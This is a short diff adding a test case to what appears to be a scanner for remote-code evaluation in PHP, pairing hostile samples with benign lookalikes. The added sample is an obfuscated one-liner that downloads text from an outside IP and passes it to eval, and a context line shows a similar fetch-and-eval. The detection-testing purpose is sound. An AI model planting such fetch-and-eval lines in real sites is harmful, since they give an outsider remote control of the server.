@@ -53,6 +53,10 @@ CASES = [
      "$code = grab('http://203.0.113.9/p/a.txt'); eval('?>' . $code);",
      "<?php $json = file_get_contents('https://api.example.org/v1/rates'); $rates = json_decode($json, true);\n"
      "eval('$total = ' . (int) $count . ' * 2;');"),
+    ("remote_code_evaluated",
+     "<?=@null; @eval/**/('?>' . file_get_contents/**/('https://203.0.113.9/p/a.txt'));",
+     "<?php echo htmlspecialchars(file_get_contents('https://example.org/news.txt'));\n"
+     "eval('return ' . var_export($defaults, true) . ';'); $page = fetch_page('https://example.org/');"),
 ]
 
 
